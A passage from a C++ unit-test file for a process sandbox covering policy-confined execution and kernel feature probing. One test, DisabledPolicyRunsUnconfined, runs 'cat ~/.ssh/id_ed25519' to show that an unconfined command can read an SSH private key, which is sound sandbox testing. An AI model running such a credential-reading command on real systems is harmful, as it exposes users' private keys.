  auto in = RunArgv({"/bin/cat"}, policy_, "with init");
  EXPECT_EQ(in.output, "with init");
  EXPECT_FALSE(in.timed_out);
}

TEST_F(SandboxTest, DisabledPolicyRunsUnconfined) {
  Policy off = policy_;
  off.enabled = false;
  auto r = Sh("cat ~/.ssh/id_ed25519", off);
  EXPECT_THAT(r.output, HasSubstr("SECRETKEY"));
}

TEST_F(SandboxTest, KernelSupportIsReported) {
  auto k = ProbeKernel();
  EXPECT_TRUE(k.namespaces);
  EXPECT_GE(k.landlock_abi, 1);
  EXPECT_TRUE(k.seccomp);
}

}  // namespace
}  // namespace sepp::sandbox
